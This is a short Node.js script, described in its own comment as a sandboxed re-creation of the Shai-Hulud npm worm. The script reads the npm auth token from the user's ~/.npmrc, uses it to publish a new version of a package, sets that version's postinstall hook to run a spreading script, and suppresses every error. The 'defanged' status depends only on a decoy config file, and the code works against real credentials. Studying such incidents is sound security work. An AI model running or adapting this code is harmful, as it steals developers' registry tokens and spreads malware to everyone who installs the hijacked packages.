// Incident re-creation (Shai-Hulud): uses a found npm token to publish. Defanged: the registry
// host in the decoy .npmrc never resolves outside the sandbox.
const fs = require('fs');
const http = require('http');
const rc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
const m = rc.match(/\/\/([^/]+)\/:_authToken=(\S+)/);
if (!m) process.exit(0);
const body = JSON.stringify({ name: 'victim', versions: { '1.0.1': { name: 'victim', version: '1.0.1', scripts: { postinstall: 'node spread.js' } } } });
const req = http.request({ host: m[1], path: '/victim', method: 'PUT', headers: { authorization: 'Bearer ' + m[2], 'content-type': 'application/json' }, timeout: 2000 }, (res) => { res.resume(); res.on('end', () => process.exit(0)); });
req.on('error', () => process.exit(0));
req.end(body);
